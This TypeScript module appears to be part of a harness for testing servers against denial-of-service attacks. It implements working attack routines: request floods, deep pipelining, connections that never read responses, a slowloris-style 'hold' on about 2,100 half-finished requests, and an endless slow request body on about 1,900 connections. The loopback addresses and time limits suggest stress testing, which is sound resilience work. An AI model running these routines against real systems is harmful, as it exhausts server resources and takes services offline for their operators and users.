import { setTimeout as pause } from 'node:timers/promises';
import type { Target } from './attack.ts';
import { Connection, type Manner } from './connection.ts';

/** Builds the request with this number, counted from 0 over all connections. */
export type Next = (count: number) => Uint8Array;

interface Spread {
  readonly connections?: number;
  /** The loopback address of the connection with this number; the target's default if absent. */
  readonly from?: (connection: number) => string;
}

/** Repeats the same request. */
export const same =
  (bytes: Uint8Array): Next =>
  () =>
    bytes;

/** Rotates through requests. */
export const inTurn =
  (list: readonly Uint8Array[]): Next =>
  (count) =>
    list[count % list.length] as Uint8Array;

/** Opens connections in groups to avoid an overflow of the queue of unaccepted connections. */
const GROUP = 100;
const GROUP_MS = 10;
const REOPEN_MS = 10;

/**
 * Sends one request after another on each connection, as fast as responses arrive. Reopens connections that the
 * server closes.
 */
export async function flood(
  target: Target,
  next: Next,
  {
    connections = 8,
    from,
    fresh = false,
    most = Infinity,
    everyMs = 0,
    patienceMs,
    ...manner
  }: Spread &
    Manner & {
      /** Milliseconds after which the client stops waiting for a response and closes the connection. */
      readonly patienceMs?: number;
      /** True to use a new connection for each request. */
      readonly fresh?: boolean;
      /** Total number of requests. */
      readonly most?: number;
      /** Milliseconds between a response and the next request of a connection. */
      readonly everyMs?: number;
    } = {},
): Promise<void> {
  let count = 0;
  await spread(connections, async (index) => {
    while (!target.signal.aborted && count < most) {
      const connection = new Connection(target, { ...manner, source: from?.(index) });
      const leave = patienceMs === undefined ? undefined : setTimeout(() => connection.close(), patienceMs);
      do {
        const wanted = connection.answers + 1;
        await connection.send(next(count++));
        await connection.answered(wanted);
        if (everyMs > 0) await rest(target, everyMs);
      } while (!fresh && connection.open && count < most);
      clearTimeout(leave);
      connection.close();
      // Prevents a busy loop if the server refuses connections.
      await pause(fresh ? 0 : REOPEN_MS);
    }
  });
}

/**
 * Sends many requests at once on each connection without waiting for responses, and sends more as soon as the server
 * has received these.
 */
export async function pipeline(
  target: Target,
  next: Next,
  { connections = 4, depth = 500, from, ...manner }: Spread & Manner & { readonly depth?: number } = {},
): Promise<void> {
  let count = 0;
  await spread(connections, async (index) => {
    while (!target.signal.aborted) {
      const connection = new Connection(target, { ...manner, source: from?.(index) });
      while (connection.open) {
        await connection.send(Buffer.concat(Array.from({ length: depth }, () => next(count++))));
      }
      await pause(REOPEN_MS);
    }
  });
}

/** Sends requests on each connection and never reads a response. */
export async function neverRead(
  target: Target,
  next: Next,
  { connections = 60, requests = 1, from }: Spread & { readonly requests?: number } = {},
): Promise<void> {
  await hold(
    target,
    (index) => Buffer.concat(Array.from({ length: requests }, (_, n) => next(index * requests + n))),
    {
      connections,
      read: false,
      ...(from && { from }),
    },
  );
}

/**
 * Starts a request on each connection by sending `opening`, then sends a few bytes at intervals and never finishes
 * the request.
 */
export async function hold(
  target: Target,
  opening: Next,
  {
    connections = 2_100,
    drip,
    everyMs = 1_000,
    from,
    ...manner
  }: Spread & Manner & { readonly drip?: Uint8Array; readonly everyMs?: number } = {},
): Promise<void> {
  const held: Connection[] = [];
  await spread(connections, async (index) => {
    if (target.signal.aborted) return;
    const connection = new Connection(target, { ...manner, source: from?.(index) });
    connection.write(opening(index));
    held.push(connection);
  });
  target.tally.count('held', held.length);
  while (!target.signal.aborted) {
    await rest(target, everyMs);
    if (drip) for (const connection of held) connection.write(drip);
  }
}

/** Sends an endless body in many pieces on every connection at once, as fast as the server receives them. */
export async function trickle(
  target: Target,
  {
    head,
    piece,
    pieces,
    connections = 1_900,
    from,
  }: Spread & { readonly head: Uint8Array; readonly piece: Uint8Array; readonly pieces: number },
): Promise<void> {
  const perWrite = Math.min(pieces, Math.ceil(16_384 / piece.length));
  const block = Buffer.concat(Array.from({ length: perWrite }, () => piece));
  await spread(connections, async (index) => {
    if (target.signal.aborted) return;
    const connection = new Connection(target, { source: from?.(index) });
    connection.write(head);
    for (let done = 0; done < pieces && connection.open; done += perWrite) {
      await connection.send(block);
      target.tally.count('pieces', perWrite);
    }
    while (connection.open) await rest(target, 100);
  });
}

/** Waits for some milliseconds, but not beyond the attack's time limit. */
export async function rest({ signal }: Target, ms: number): Promise<void> {
  await pause(ms, undefined, { signal }).catch(() => {});
}

/** Starts the work of the connections in groups; all connections then work concurrently. */
async function spread(connections: number, work: (index: number) => Promise<void>): Promise<void> {
  const all: Promise<void>[] = [];
  for (let index = 0; index < connections; index++) {
    all.push(work(index));
    if (index % GROUP === GROUP - 1) await pause(GROUP_MS);
  }
  await Promise.all(all);
}
